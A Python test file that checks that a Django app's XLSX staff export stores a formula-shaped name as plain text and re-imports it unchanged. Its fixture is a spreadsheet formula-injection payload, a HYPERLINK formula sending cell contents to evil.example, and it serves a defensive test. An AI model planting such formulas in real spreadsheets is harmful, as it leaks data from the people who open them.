"""A value that looks like a formula is data: the interchange XLSX stores it as a text cell,
and importing that export gives back the same text."""

from __future__ import annotations

import io

from thenchot.exchange.services import export_data
from thenchot.exchange.tests.conftest import AS_OF, run_import
from thenchot.people.models import Staff

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")'


def _staff_cell(data: bytes, code: str) -> tuple[object, str]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data))["staff"]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[header.index("code")].value == code:
            cell = row[header.index("full_name")]
            return cell.value, cell.data_type
    raise AssertionError(f"{code} not exported")


def test_it_exports_a_formula_looking_name_as_a_text_cell(world) -> None:  # type: ignore[no-untyped-def]
    an = world.staff["an"]
    Staff.objects.filter(pk=an.pk).update(full_name=FORMULA_NAME)
    data = export_data(fmt="xlsx", sections=["staff"], as_of=AS_OF)
    assert _staff_cell(data, an.code) == (FORMULA_NAME, "s")
    hoa = world.staff["hoa"]
    assert _staff_cell(data, hoa.code) == (hoa.full_name, "s")


def test_it_reimports_its_export_with_the_same_text(world) -> None:  # type: ignore[no-untyped-def]
    an = world.staff["an"]
    Staff.objects.filter(pk=an.pk).update(full_name=FORMULA_NAME)
    data = export_data(fmt="xlsx", sections=["staff"], as_of=AS_OF)
    Staff.objects.filter(pk=an.pk).update(full_name="Nguyễn Văn An")
    result = run_import(data, filename="export.xlsx")
    assert result.ok, [str(p) for p in result.problems]
    assert result.counts["staff"].updated == 1
    assert Staff.objects.get(pk=an.pk).full_name == FORMULA_NAME
